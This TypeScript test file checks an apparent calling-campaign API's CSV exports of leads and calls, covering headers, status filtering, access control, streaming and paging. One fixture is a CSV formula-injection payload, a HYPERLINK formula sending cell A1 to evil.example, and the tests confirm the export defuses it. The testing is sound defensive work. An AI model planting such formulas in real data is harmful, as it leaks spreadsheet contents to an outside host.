import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvBody } from '../../src/api/presenters/exports-download.js';
import { createCampaign, useApi, type ApiClient } from './api-harness.js';
import { advanceClock, expectProblem, listIds } from './fixtures.js';

/**
 * CSV exports (issue 4): `GET /v1/campaigns/{id}/leads.csv` and `…/calls.csv` over real HTTP, read back with
 * a CSV parser, after calls to the simulator's test numbers (DESIGN §6) have happened on the virtual clock.
 */

const LEAD_COLUMNS = [
  'lead_id',
  'external_id',
  'name',
  'status',
  'completion_reason',
  'phone',
  'secondary_phones',
  'attempts',
  'last_result',
  'created_at',
  'updated_at',
];
const CALL_COLUMNS = [
  'call_id',
  'lead_id',
  'lead_name',
  'contact_phone',
  'contact_role',
  'attempt',
  'placed_at',
  'ended_at',
  'status',
  'answered_by',
  'billed_seconds',
  'cost',
  'goal',
  'variables',
];
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Grace")';

/** The rows of a CSV answer, header first, as a spreadsheet would read the cells. */
const rowsOf = (csv: string) =>
  Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n', skipEmptyLines: true }).data;

describe('CSV exports', () => {
  // A fresh API (and test clock) per test: the times in the files are exact.
  const api = useApi();

  /**
   * Two leads called on the virtual clock: one meets the goal, one is busy and then answers on its second
   * number.
   */
  async function calledCampaign(client: ApiClient) {
    const { key } = await client.account({ name: 'Exporter' });
    const { campaignId } = await createCampaign(client, key, { goal: { variable: 'appointment_booked' } });
    const added = await client.call('POST', `/v1/campaigns/${campaignId}/leads`, {
      key,
      body: {
        leads: [
          {
            phone: '+12125550100',
            name: 'Ada Lovelace',
            externalId: 'crm-1',
            fields: { first_name: 'Ada', plan: 'gold, annual' },
          },
          {
            phone: '+12125550103',
            secondaryPhones: ['+12125550101', '+12125550104'],
            name: FORMULA_NAME,
            fields: { first_name: '@Grace' },
          },
        ],
      },
    });
    expect(added.body.created).toBe(2);
    expect((await client.call('POST', `/v1/campaigns/${campaignId}/start`, { key })).status).toBe(200);
    await advanceClock(client, 10);
    const [adaId, graceId] = await listIds(client, key, `/v1/campaigns/${campaignId}/leads`);
    const callIds = await listIds(client, key, `/v1/campaigns/${campaignId}/calls`);
    return { key, campaignId, adaId: adaId!, graceId: graceId!, callIds };
  }

  it('exports every lead with its numbers, attempts, last result and fields, formulas inert', async () => {
    const { key, campaignId, adaId, graceId } = await calledCampaign(api());
    const response = await api().call('GET', `/v1/campaigns/${campaignId}/leads.csv`, { key });

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="Spring follow-up-leads.csv"; filename*=UTF-8''Spring%20follow-up-leads.csv`,
    );
    expect(rowsOf(response.body)).toEqual([
      [...LEAD_COLUMNS, 'fields.first_name', 'fields.plan', 'other_fields'],
      [
        adaId,
        'crm-1',
        'Ada Lovelace',
        'completed',
        'goal_achieved',
        '+12125550100',
        '',
        '1',
        'completed',
        '2026-03-06T14:00:00-05:00',
        '2026-03-06T14:01:42-05:00',
        'Ada',
        'gold, annual',
        '',
      ],
      [
        graceId,
        '',
        `'${FORMULA_NAME}`,
        'completed',
        'answered',
        '+12125550103',
        // Several numbers are not one E.164 number: a spreadsheet would add them up.
        "'+12125550101 +12125550104",
        '2',
        // Busy on the primary, then answered on the first secondary: the latest call's result.
        'completed',
        '2026-03-06T14:00:00-05:00',
        '2026-03-06T14:01:45-05:00',
        "'@Grace",
        '',
        '',
      ],
    ]);
  });

  it('exports every call with its times in the campaign zone, cost, goal and variables', async () => {
    const { key, campaignId, adaId, graceId, callIds } = await calledCampaign(api());
    const response = await api().call('GET', `/v1/campaigns/${campaignId}/calls.csv`, { key });

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toContain('filename="Spring follow-up-calls.csv"');
    const variables = JSON.stringify({ appointment_booked: true });
    expect(rowsOf(response.body)).toEqual([
      CALL_COLUMNS,
      [
        callIds[0],
        adaId,
        'Ada Lovelace',
        '+12125550100',
        'primary',
        '1',
        '2026-03-06T14:00:00-05:00',
        '2026-03-06T14:01:40-05:00',
        'completed',
        'human',
        '90',
        '0.15',
        'true',
        variables,
      ],
      [
        callIds[1],
        graceId,
        `'${FORMULA_NAME}`,
        '+12125550103',
        'primary',
        '1',
        '2026-03-06T14:00:00-05:00',
        '2026-03-06T14:00:03-05:00',
        'busy',
        '',
        '0',
        '0.00',
        '',
        '',
      ],
      [
        callIds[2],
        graceId,
        `'${FORMULA_NAME}`,
        '+12125550101',
        'secondary',
        '1',
        '2026-03-06T14:00:03-05:00',
        '2026-03-06T14:01:43-05:00',
        'completed',
        'human',
        '90',
        '0.15',
        'false',
        JSON.stringify({ appointment_booked: false }),
      ],
    ]);
  });

  it('filters leads by status like the JSON list, and refuses a status that does not exist', async () => {
    const { key } = await api().account();
    const { campaignId } = await createCampaign(api(), key);
    await api().call('POST', `/v1/campaigns/${campaignId}/leads`, {
      key,
      body: {
        leads: [
          { phone: '+12125550100', name: 'Stays' },
          { phone: '+12125550101', name: 'Marked done' },
        ],
      },
    });
    const [, doneId] = await listIds(api(), key, `/v1/campaigns/${campaignId}/leads`);
    await api().call('PATCH', `/v1/leads/${doneId}`, { key, body: { status: 'completed' } });

    const completed = await api().call('GET', `/v1/campaigns/${campaignId}/leads.csv?status=completed`, {
      key,
    });
    expect(rowsOf(completed.body).map((row) => [row[0], row[2], row[3], row[4]])).toEqual([
      ['lead_id', 'name', 'status', 'completion_reason'],
      [doneId, 'Marked done', 'completed', 'manual'],
    ]);
    const none = await api().call('GET', `/v1/campaigns/${campaignId}/leads.csv?status=max_retries`, { key });
    expect(none.body).toBe(`${[...LEAD_COLUMNS, 'other_fields'].join(',')}\n`);
    expectProblem(
      await api().call('GET', `/v1/campaigns/${campaignId}/leads.csv?status=done`, { key }),
      422,
      'validation_failed',
      'status',
    );
  });

  it("answers 404 for another account's campaign, exactly as for one that does not exist", async () => {
    const owner = await api().account({ name: 'Owner' });
    const other = await api().account({ name: 'Other' });
    const { campaignId } = await createCampaign(api(), owner.key);
    for (const file of ['leads.csv', 'calls.csv']) {
      const foreign = expectProblem(
        await api().call('GET', `/v1/campaigns/${campaignId}/${file}`, { key: other.key }),
        404,
        'not_found',
      );
      const missing = expectProblem(
        await api().call('GET', `/v1/campaigns/cmp_0000000000/${file}`, { key: other.key }),
        404,
        'not_found',
      );
      expect(foreign.detail.replace(campaignId, 'ID')).toBe(missing.detail.replace('cmp_0000000000', 'ID'));
      expectProblem(await api().call('GET', `/v1/campaigns/${campaignId}/${file}`), 401, 'unauthorized');
    }
  });

  it('streams thousands of leads, a field first seen late in other_fields', async () => {
    const { key } = await api().account();
    const { campaignId } = await createCampaign(api(), key, { name: 'Relance été / "VIP"' });
    const total = 3_000;
    for (let batch = 0; batch < total / 1000; batch += 1) {
      const leads = Array.from({ length: 1000 }, (_, i) => {
        const n = batch * 1000 + i;
        // +1 212 736-xxxx: a real exchange, so every number validates.
        const phone = `+1212736${String(n).padStart(4, '0')}`;
        return {
          phone,
          name: `Lead ${n}`,
          fields: n === total - 1 ? { city: 'Boston', late: 'yes' } : { city: 'Austin' },
        };
      });
      const added = await api().call('POST', `/v1/campaigns/${campaignId}/leads`, { key, body: { leads } });
      expect(added.body.created).toBe(1000);
    }

    const response = await fetch(`${api().url}/v1/campaigns/${campaignId}/leads.csv`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(response.status).toBe(200);
    // Sent as it is read: no length is known in advance.
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    expect(response.headers.get('content-length')).toBeNull();
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="Relance _t_ _ _VIP_-leads.csv"; ' +
        "filename*=UTF-8''Relance%20%C3%A9t%C3%A9%20_%20_VIP_-leads.csv",
    );
    const rows = rowsOf(await response.text());
    expect(rows[0]).toEqual([...LEAD_COLUMNS, 'fields.city', 'other_fields']);
    expect(rows.slice(1).map((row) => row[0])).toEqual(
      await listIds(api(), key, `/v1/campaigns/${campaignId}/leads`),
    );
    expect(rows.at(-1)!.slice(2, 8)).toEqual(['Lead 2999', 'created', '', '+12127362999', '', '0']);
    expect(rows.at(-1)!.slice(-2)).toEqual(['Boston', JSON.stringify({ late: 'yes' })]);
  });

  it('is in the OpenAPI document as a text/csv answer', async () => {
    const doc = (await api().call('GET', '/openapi.json')).body;
    for (const path of ['/v1/campaigns/{id}/leads.csv', '/v1/campaigns/{id}/calls.csv']) {
      const responses = doc.paths[path].get.responses;
      expect(Object.keys(responses['200'].content)).toEqual(['text/csv']);
      expect(responses['404'].content).toHaveProperty('application/json');
    }
  });
});

describe('the CSV body', () => {
  /** A reader of `pages` pages of `size` rows, counting the pages asked for. */
  function pagedRows(pages: number, size: number) {
    const read: (string | null)[] = [];
    const rows = Array.from({ length: pages * size }, (_, i) => ({
      id: `row_${String(i).padStart(6, '0')}`,
    }));
    const readAfter = (after: string | null) => {
      read.push(after);
      const start = after === null ? 0 : rows.findIndex((row) => row.id === after) + 1;
      return Promise.resolve(rows.slice(start, start + size));
    };
    return { rows, read, readAfter };
  }
  const toLines = (page: readonly { id: string }[]) =>
    Promise.resolve(page.map((row) => `${row.id}\n`).join(''));

  it('reads the next page only when the client has taken the previous ones', async () => {
    const { readAfter, read } = pagedRows(50, 200);
    const body = csvBody(['id'], await readAfter(null), 200, readAfter, toLines);
    const chunks = body[Symbol.asyncIterator]();
    await chunks.next(); // the header
    await chunks.next(); // the first page
    // Whatever the stream reads ahead on its own happens in the microtasks that run before the next turn.
    await new Promise((resolve) => setImmediate(resolve));
    // The first page and at most one ahead of what the client took, of 50.
    expect(read.length).toBeLessThanOrEqual(2);
    await chunks.return?.();
    expect(body.destroyed).toBe(true);
  });

  it('sends every row of every page, once, in order, and stops after a short page', async () => {
    const { rows, readAfter, read } = pagedRows(3, 200);
    const body = csvBody(['id'], await readAfter(null), 200, readAfter, toLines);
    let csv = '';
    for await (const chunk of body) csv += String(chunk);
    expect(csv).toBe(`id\n${rows.map((row) => `${row.id}\n`).join('')}`);
    // Three full pages, then an empty one that says the list is over.
    expect(read).toEqual([null, 'row_000199', 'row_000399', 'row_000599']);
  });

  it('fails instead of ending when a page cannot be read, so that a cut file never looks whole', async () => {
    const { readAfter } = pagedRows(3, 200);
    const failing = (after: string | null) =>
      after === null ? readAfter(after) : Promise.reject(new Error('database gone'));
    const body = csvBody(['id'], await readAfter(null), 200, failing, toLines);
    let received = '';
    const reading = (async () => {
      for await (const chunk of body) received += String(chunk);
    })();
    await expect(reading).rejects.toThrow('database gone');
    expect(received.split('\n')).toHaveLength(202);
  });
});
